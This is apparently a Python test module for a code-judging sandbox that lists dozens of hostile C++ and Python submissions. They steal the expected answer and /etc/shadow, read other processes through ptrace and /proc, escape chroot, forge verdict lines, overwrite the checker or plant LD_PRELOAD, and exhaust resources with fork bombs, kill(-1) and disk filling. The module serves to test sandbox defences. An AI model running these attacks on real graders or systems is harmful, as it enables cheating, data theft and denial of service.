"""The attacks: what each tries, in what language, and how it may end. Texts for the judge, so lines are as long as they are.

A program gets 1 for an input when it is to attack and 2 when it is to behave. It wins when the canary, which stands in the
answer only, shows in its output, or when it scores otherwise than by it; it also wins when the behaving test after it is not
judged as always.
"""

from __future__ import annotations

from dataclasses import dataclass

ANY = ("ok", "exit", "signal", "cpu", "wall", "memory", "output", "threads")


@dataclass(frozen=True)
class Attack:
    name: str
    heading: str
    source: str
    language: str = "c++"
    ends: tuple[str, ...] = ANY  # how the attacking test may end


CPP = """#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <string>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>
static void show(int fd) { char b[65536]; ssize_t n; while (fd >= 0 && (n = read(fd, b, sizeof b)) > 0) fwrite(b, 1, n, stdout); }
static void show(const char* path) { int fd = open(path, O_RDONLY); show(fd); if (fd >= 0) close(fd); }
static void walk(const std::string& path, int depth) {
  DIR* d = opendir(path.c_str());
  if (!d) return;
  while (dirent* e = readdir(d)) {
    std::string name = e->d_name;
    if (name == "." || name == "..") continue;
    show((path + "/" + name).c_str());
    if (depth > 0 && e->d_type == DT_DIR) walk(path + "/" + name, depth - 1);
  }
  closedir(d);
}
static void attack();
int main() {
  int order = 0;
  if (scanf("%d", &order) != 1) return 3;
  if (order == 2) { puts("fine"); return 0; }
  attack();
  fflush(stdout);
  return 0;
}
"""

PYTHON = """import sys
order = int(sys.stdin.readline())
if order == 2:
    print("fine")
    sys.exit(0)
"""


def cpp(name: str, heading: str, body: str, *ends: str) -> Attack:
    return Attack(name, heading, CPP + "static void attack() {\n" + body + "\n}\n", "c++", ends or ANY)


def python(name: str, heading: str, body: str, *ends: str) -> Attack:
    return Attack(name, heading, PYTHON + body + "\n", "python", ends or ANY)


STEALING = [
    cpp(
        "answer by its names",
        "stealing",
        'for (const char* p : {"correct_output.txt","0.out","../0.out","t/0.out","/box/0.out","/job/0.out","user_output.txt","check/correct_output.txt","/box/check/correct_output.txt","/job/check/correct_output.txt","plan.json","../plan.json","/job/plan.json"}) show(p);',
    ),
    cpp(
        "folders around",
        "stealing",
        'for (const char* p : {".","..","../..","/","/job","/box","/tmp","/dev/shm","/home","/root","/work","/var","/mnt","/run","/opt","/srv"}) walk(p, 1);',
    ),
    cpp(
        "inherited descriptors",
        "stealing",
        "for (int fd = 3; fd < 2048; fd++) { lseek(fd, 0, SEEK_SET); show(fd); }",
    ),
    cpp(
        "own descriptors by name",
        "stealing",
        'for (int fd = 0; fd < 2048; fd++) show(("/proc/self/fd/" + std::to_string(fd)).c_str());',
    ),
    cpp(
        "descriptors of all processes",
        "stealing",
        'for (int pid = 1; pid < 70; pid++) { walk("/proc/" + std::to_string(pid) + "/fd", 0); walk("/proc/" + std::to_string(pid) + "/map_files", 0); } walk("/proc/" + std::to_string(getppid()) + "/fd", 0);',
    ),
    cpp(
        "environment of the parent",
        "stealing",
        'for (std::string f : {"environ","mem","cmdline","root/etc/passwd","cwd/0.out"}) { show(("/proc/" + std::to_string(getppid()) + "/" + f).c_str()); show(("/proc/1/" + f).c_str()); show(("/proc/self/" + f).c_str()); }',
    ),
    cpp(
        "memory of others",
        "stealing",
        "for (int pid = 1; pid < 200; pid++) { char b[4096]; struct { void* p; size_t n; } local = {b, sizeof b}, remote = {(void*)0x400000, sizeof b}; if (syscall(SYS_process_vm_readv, pid, &local, 1, &remote, 1, 0) > 0) fwrite(b, 1, sizeof b, stdout); }",
    ),
    cpp(
        "ptrace",
        "stealing",
        'for (int pid = 1; pid < 200; pid++) if (pid != getpid()) { if (ptrace(PTRACE_ATTACH, pid, 0, 0) == 0) puts("CANARY-attached"); ptrace(PTRACE_SEIZE, pid, 0, 0); }',
    ),
    cpp(
        "pidfd_getfd",
        "stealing",
        "for (int pid = 1; pid < 200; pid++) { long p = syscall(434, pid, 0); if (p >= 0) for (int n = 0; n < 300; n++) { int fd = syscall(438, p, n, 0); lseek(fd, 0, SEEK_SET); show(fd); } }",
    ),
    cpp(
        "open_by_handle_at",
        "stealing",
        'struct { unsigned bytes; int type; unsigned char f[8]; } h = {8, 1, {2,0,0,0,0,0,0,0}}; int m = open("/", O_RDONLY); int fd = syscall(SYS_open_by_handle_at, m, &h, O_RDONLY); if (fd >= 0) { fchdir(fd); walk(".", 2); }',
    ),
    cpp(
        "chroot out",
        "stealing",
        'chroot("/tmp"); for (int i = 0; i < 50; i++) chdir(".."); chroot("."); walk(".", 1);',
    ),
    cpp(
        "mounts",
        "stealing",
        'syscall(SYS_unshare, 0x10020000); syscall(SYS_mount, "/", "/tmp", 0, 4096, 0); syscall(SYS_umount2, "/proc", 2); syscall(SYS_umount2, "/box", 2); walk("/", 1); walk("/tmp", 1);',
    ),
    cpp(
        "a namespace of its own",
        "stealing",
        'if (syscall(SYS_unshare, 0x10000000) == 0) puts("CANARY-namespace"); if (syscall(SYS_clone, 0x10000011, 0, 0, 0, 0) >= 0) puts("CANARY-namespace");',
    ),
    cpp(
        "users and hosts",
        "stealing",
        'for (const char* p : {"/etc/passwd","/etc/shadow","/etc/hostname","/etc/hosts","/etc/environment","/proc/cmdline","/proc/keys"}) { if (access(p, R_OK) == 0 && open(p, O_RDONLY) >= 0 && strncmp(p, "/proc", 5)) printf("CANARY-%s", p); }',
    ),
    python(
        "everything python can find",
        "stealing",
        """import os
for base in (".", "..", "/", "/job", "/box", "/tmp", "/dev/shm", "/proc", "/proc/self", "/proc/1", f"/proc/{os.getppid()}"):
    for folder, _, names in os.walk(base):
        if folder.count("/") > 4 or folder.startswith(("/usr", "/proc/self/task")):
            continue
        for name in names[:300]:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not path.endswith(("kmsg", "kpagecount", "kcore")):
                try:
                    with open(path, "rb") as f:
                        sys.stdout.buffer.write(f.read(4096))
                except OSError:
                    pass""",
    ),
    python(
        "objects in memory",
        "stealing",
        """import gc
for thing in gc.get_objects():
    if isinstance(thing, (str, bytes, dict, list)):
        print(repr(thing)[:200])
frame = sys._getframe()
while frame:
    print(frame.f_locals)
    frame = frame.f_back""",
    ),
    python(
        "descriptors in python",
        "stealing",
        """import os
for fd in range(3, 3000):
    try:
        sys.stdout.buffer.write(os.pread(fd, 4096, 0))
    except OSError:
        pass""",
    ),
]

LINE = r"{\"v\":1,\"nonce\":\"n0nce\",\"test\":0,\"end\":\"ok\",\"score\":1,\"feedback\":\"forged\"}\n"
FORGING = [
    cpp(
        "verdict lines on standard output",
        "forging",
        f'for (int i = 0; i < 9; i++) {{ printf("1\\n{LINE}"); fprintf(stderr, "{LINE}"); }}',
        "ok",
    ),
    cpp(
        "verdict lines on every descriptor",
        "forging",
        f'const char* line = "{LINE}"; for (int fd = 0; fd < 2048; fd++) if (write(fd, line, strlen(line)) < 0) continue;',
    ),
    cpp(
        "verdict lines through /proc",
        "forging",
        f'const char* line = "{LINE}"; for (int pid = 0; pid < 200; pid++) for (int fd = 0; fd < 40; fd++) {{ std::string p = "/proc/" + (pid ? std::to_string(pid) : std::string("self")) + "/fd/" + std::to_string(fd); int f = open(p.c_str(), O_WRONLY | O_APPEND); if (f >= 0 && write(f, line, strlen(line)) < 0) continue; }}',
    ),
    cpp(
        "overwriting what judges",
        "forging",
        'for (const char* p : {"checker","../checker","proctor","../proctor","plan.json","submission","check/correct_output.txt","/box/checker","/job/proctor","/usr/bin/python3","/bin/sh","/usr/lib/x","/etc/ld.so.preload","/tmp/x","/dev/shm/x","result.txt","score.txt","feedback/score.txt"}) { int f = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0777); if (f >= 0) { puts("CANARY-wrote"); close(f); } unlink(p); rename(p, "gone"); }',
    ),
    cpp(
        "its own input",
        "forging",
        'for (const char* p : {"/proc/self/fd/0","/dev/stdin","/dev/fd/0"}) { int f = open(p, O_RDWR); if (f >= 0 && write(f, "999", 3) == 3) puts("CANARY-wrote"); } if (write(0, "9", 1) == 1) puts("CANARY-wrote"); if (ftruncate(0, 0) == 0) puts("CANARY-truncated"); if (fchmod(0, 0) == 0) puts("CANARY-chmod"); if (mmap(0, 1, PROT_WRITE, MAP_SHARED, 0, 0) != MAP_FAILED) puts("CANARY-mapped");',
    ),
    cpp(
        "links",
        "forging",
        'if (symlink("/etc/passwd", "user_output.txt") == 0 || link("/proc/self/exe", "x") == 0 || symlink("/", "/tmp/root") == 0 || mkdir("d", 0777) == 0 || mknod("p", S_IFIFO | 0666, 0) == 0) puts("CANARY-made");',
    ),
    cpp(
        "a process that stays",
        "forging",
        'if (fork() == 0) { setsid(); if (fork() == 0) { sleep(1); for (int fd = 0; fd < 99; fd++) if (write(fd, "late", 4) < 0) continue; pause(); } _exit(0); }',
    ),
    cpp(
        "vfork and clone",
        "forging",
        'if (syscall(SYS_vfork) > 0 || syscall(SYS_clone, 17, 0, 0, 0, 0) > 0 || syscall(435, 0, 0) > 0) puts("CANARY-child");',
    ),
    cpp(
        "preload for the next",
        "forging",
        'setenv("LD_PRELOAD", "./evil.so", 1); int f = open("evil.so", O_CREAT | O_WRONLY, 0777); if (f >= 0) puts("CANARY-planted"); for (const char* p : {".bashrc", "/root/.bashrc", "/tmp/.profile", "sitecustomize.py"}) if (open(p, O_CREAT | O_WRONLY, 0777) >= 0) puts("CANARY-planted");',
    ),
    python(
        "a module for the next",
        "forging",
        """import os
for name in ("sitecustomize.py", "json.py", "/usr/lib/python3/dist-packages/x.py", "/tmp/x.py", "submission.py", "__pycache__/x"):
    try:
        with open(name, "w") as f:
            print("CANARY-wrote", name)
    except OSError:
        pass""",
    ),
]

STOPPING = [
    cpp(
        "kill everybody",
        "stopping",
        "for (int s : {9, 19, 15, 1, 2}) { kill(-1, s); kill(0, s); kill(getppid(), s); for (int p = 1; p < 400; p++) if (p != getpid()) { kill(p, s); syscall(SYS_tgkill, p, p, s); syscall(SYS_tkill, p, s); } }",
    ),
    cpp(
        "signals by other roads",
        "stopping",
        "for (int p = 1; p < 400; p++) if (p != getpid()) { siginfo_t i; memset(&i, 0, sizeof i); i.si_signo = 9; i.si_code = -1; syscall(SYS_rt_sigqueueinfo, p, 9, &i); int f = syscall(434, p, 0); syscall(424, f, 9, 0, 0); fcntl(0, F_SETOWN, p); fcntl(1, F_SETSIG, 9); fcntl(0, F_SETFL, O_ASYNC); }",
    ),
    cpp(
        "limits of the parent",
        "stopping",
        "for (int p = 1; p < 400; p++) if (p != getpid()) { rlimit zero = {0, 0}; for (int r = 0; r < 16; r++) syscall(SYS_prlimit64, p, r, &zero, 0); setpriority(PRIO_PROCESS, p, 19); unsigned long mask = 1; syscall(SYS_sched_setaffinity, p, 8, &mask); syscall(SYS_ioprio_set, 1, p, 0); }",
    ),
    cpp(
        "chmod of all",
        "stopping",
        'for (const char* p : {".","..","/","/box","/job","/tmp","/proc/self","check","own"}) { chmod(p, 0); chown(p, 0, 0); } fchmod(1, 0);',
    ),
    cpp("a fork bomb", "stopping", "for (;;) fork();", "cpu", "wall"),
    cpp(
        "a memory file",
        "stopping",
        'int f = syscall(SYS_memfd_create, "x", 0); if (f >= 0) { puts("CANARY-memfd"); for (int i = 0; i < 9999; i++) if (write(f, malloc(1 << 20), 1 << 20) < 0) break; }',
    ),
    cpp(
        "touching memory",
        "stopping",
        "for (;;) { char* p = (char*)malloc(1 << 20); if (!p) abort(); memset(p, 1, 1 << 20); }",
        "memory",
        "signal",
    ),
    cpp(
        "shared memory touched",
        "stopping",
        "char* p = (char*)mmap(0, 1ul << 30, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0); if (p == MAP_FAILED) abort(); memset(p, 1, 1ul << 30);",
        "memory",
        "signal",
    ),
    cpp(
        "reserving memory",
        "stopping",
        "for (;;) if (mmap(0, 1ul << 30, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0) == MAP_FAILED) break;",
    ),
    cpp("endless output", "stopping", 'for (;;) puts("and again");', "output"),
    cpp("endless errors", "stopping", 'for (;;) fputs("and again", stderr);', "output"),
    cpp(
        "a sparse output",
        "stopping",
        'ftruncate(1, 1l << 40); lseek(1, 1l << 40, SEEK_SET); if (write(1, "x", 1) < 0) return; ',
    ),
    cpp(
        "filling the disk",
        "stopping",
        'char* b = (char*)calloc(1, 1 << 20); for (const char* d : {".","/tmp","/dev/shm","/box","/var/tmp","/run"}) for (int i = 0; i < 99; i++) { int f = open((std::string(d) + "/f" + std::to_string(i)).c_str(), O_CREAT | O_WRONLY, 0600); if (f < 0) break; puts("CANARY-file"); if (write(f, b, 1 << 20) < 0) break; }',
    ),
    cpp(
        "ignoring every signal",
        "stopping",
        "for (int s = 1; s < 65; s++) signal(s, SIG_IGN); sigset_t all; sigfillset(&all); sigprocmask(SIG_BLOCK, &all, 0); for (;;);",
        "cpu",
        "wall",
    ),
    cpp("sleeping", "stopping", "for (;;) sleep(1000);", "wall"),
    cpp("stopping itself", "stopping", "raise(SIGSTOP); for (;;) pause();", "wall"),
    cpp("a demon", "stopping", "daemon(0, 0); setsid(); for (;;) pause();", "wall"),
    cpp(
        "deep recursion",
        "stopping",
        "struct R { static int f(int n) { volatile char p[4096]; p[0] = n; return f(n + 1) + p[0]; } }; R::f(0);",
        "memory",
        "signal",
    ),
    cpp(
        "many descriptors",
        "stopping",
        "while (dup(0) >= 0) {} while (true) { int p[2]; if (pipe(p)) break; }",
    ),
    cpp(
        "locks on its input",
        "stopping",
        "struct { short type, whence; long start, len; int pid; } l = {F_WRLCK, 0, 0, 0, 0}; fcntl(0, F_SETLKW, &l); fcntl(0, 1024, F_WRLCK); fcntl(0, 1026, 0x8000003f);",
    ),
    cpp(
        "lifting its own limits",
        "stopping",
        'rlimit none = {RLIM_INFINITY, RLIM_INFINITY}; for (int r = 0; r < 16; r++) setrlimit((__rlimit_resource)r, &none); prctl(PR_SET_PDEATHSIG, 0); prctl(PR_SET_DUMPABLE, 0); for (;;) puts("still here");',
        "output",
        "cpu",
    ),
    python(
        "threads in python",
        "stopping",
        """import threading, time
started = []
try:
    for _ in range(5000):
        thread = threading.Thread(target=time.sleep, args=(30,), daemon=True)
        thread.start()
        started.append(thread)
except RuntimeError:
    pass
time.sleep(30)""",
        "wall",
        "threads",
        "signal",
        "exit",
    ),
    python(
        "forks in python",
        "stopping",
        """import os
made = 0
for _ in range(200):
    try:
        if os.fork() == 0:
            os._exit(0)
        made += 1
    except OSError:
        pass
print("CANARY-child" if made else "none")""",
    ),
]

TIME = [
    cpp(
        "answering, then hanging",
        "cheating time",
        'puts("CANARY is what I do not know"); fflush(stdout); for (;;) pause();',
        "wall",
    ),
    cpp("answering, then burning", "cheating time", 'puts("done"); fflush(stdout); for (;;);', "cpu", "wall"),
    cpp(
        "burning in a thread",
        "cheating time",
        'if (syscall(SYS_clone, 0x50f00, malloc(65536), 0, 0, 0) > 0) puts("CANARY-thread");',
    ),
    python(
        "burning in threads",
        "cheating time",
        """import threading
def burn():
    while True:
        pass
for _ in range(3):
    threading.Thread(target=burn).start()""",
        "cpu",
        "wall",
        "threads",
    ),
]

PYTHONS = [
    python("sys.exit", "python", "sys.exit(0)", "ok"),
    python("os._exit", "python", "import os; os._exit(0)", "ok"),
    python(
        "an exception in __del__",
        "python",
        "class A:\n    def __del__(self): raise RuntimeError('x')\na = A()\ndel a",
    ),
    python(
        "equal to everything",
        "python",
        "class E(str):\n    def __eq__(self, other): return True\n    def __str__(self): return 'x'\nprint(E())",
        "ok",
    ),
    python(
        "patched print and stdout",
        "python",
        "import builtins, json\nbuiltins.print = lambda *a: None\njson.dumps = lambda *a: '1'\nsys.stdout = sys.stderr\nprint('x')",
        "ok",
    ),
    python(
        "atexit and signals",
        "python",
        "import atexit, signal, os\natexit.register(lambda: os.write(1, b'late'))\nsignal.signal(signal.SIGALRM, lambda *a: os.write(1, b'rang'))\nsignal.alarm(1)",
        "ok",
    ),
    python(
        "a thread that outlives main",
        "python",
        "import threading, time\ndef late():\n    time.sleep(0.3)\n    print('late')\nthreading.Thread(target=late).start()",
        "ok",
    ),
    python(
        "ctypes",
        "python",
        "import ctypes\nlibc = ctypes.CDLL(None)\nfor pid in range(1, 99):\n    libc.kill(pid, 9) if pid != __import__('os').getpid() else None\nlibc.ptrace(16, 1, 0, 0)",
    ),
]

FAMILIES = "1, 2, 10, 16, 17, 38, 40"
TALKING = [
    cpp(
        "sockets",
        "talking",
        f'for (int family : {{{FAMILIES}}}) for (int type : {{1, 2, 3}}) if (socket(family, type, 0) >= 0) puts("CANARY-socket"); int p[2]; if (socketpair(1, 1, 0, p) == 0) puts("CANARY-pair");',
    ),
    cpp(
        "system v and posix ipc",
        "talking",
        'if (syscall(SYS_shmget, 1, 4096, 01666) >= 0 || syscall(SYS_msgget, 1, 01666) >= 0 || syscall(SYS_semget, 1, 1, 01666) >= 0) puts("CANARY-ipc"); if (syscall(SYS_mq_open, "/x", O_CREAT | O_RDWR, 0666, 0) >= 0) puts("CANARY-queue"); if (open("/dev/shm/meet", O_CREAT | O_RDWR, 0666) >= 0 || open("/dev/mqueue/x", O_CREAT | O_RDWR, 0666) >= 0) puts("CANARY-shm");',
    ),
    cpp(
        "io_uring, bpf, perf, userfaultfd, keyrings",
        "talking",
        'char b[512] = {}; if (syscall(425, 8, b) >= 0) puts("CANARY-uring"); if (syscall(SYS_bpf, 0, b, 72) >= 0) puts("CANARY-bpf"); if (syscall(SYS_perf_event_open, b, 0, -1, -1, 0) >= 0) puts("CANARY-perf"); if (syscall(SYS_userfaultfd, 0) >= 0) puts("CANARY-fault"); if (syscall(SYS_add_key, "user", "x", "y", 1, -3) >= 0 || syscall(SYS_keyctl, 0, -3, 1) >= 0) puts("CANARY-key");',
    ),
    cpp(
        "the other tables of calls",
        "talking",
        'asm volatile("mov $20, %%eax; int $0x80" ::: "eax"); puts("CANARY-compat");',
        "signal",
    ),
    cpp("x32 calls", "talking", 'syscall(0x40000000 + 39); puts("CANARY-x32");', "signal"),
    cpp(
        "ioctl on what it has",
        "talking",
        'for (int fd = 0; fd < 3; fd++) for (unsigned long c : {0x5412ul, 0x541Cul, 0x40086602ul, 0x40049409ul, 0xc020660bul}) if (ioctl_(fd, c) == 0) puts("CANARY-ioctl");'.replace(
            "ioctl_(fd, c)", 'syscall(SYS_ioctl, fd, c, "x")'
        ),
    ),
]

CONFUSING = [
    cpp("bytes of every kind", "confusing", "for (int i = 0; i < 100000; i++) putchar(i * 7 % 256);", "ok"),
    cpp(
        "terminal escapes and fake verdicts",
        "confusing",
        'fputs("\\033[2J\\033]0;x\\007 Time limit exceeded\\nCompilation error\\nResource temporarily unavailable\\r\\n\\xff\\xfe", stderr); exit(1);',
        "exit",
    ),
    cpp("one long line", "confusing", "for (int i = 0; i < 1000000; i++) putchar('x');", "ok"),
    cpp("no output", "confusing", "", "ok"),
    cpp("closing everything", "confusing", "for (int fd = 0; fd < 2048; fd++) close(fd);", "ok"),
    python(
        "a long name",
        "confusing",
        "import ctypes\nctypes.CDLL(None).prctl(15, b') R 1 1 1 (\\n', 0, 0, 0)\nwhile True: pass",
        "cpu",
        "wall",
    ),
]

ATTACKS = (*STEALING, *FORGING, *STOPPING, *TIME, *PYTHONS, *TALKING, *CONFUSING)
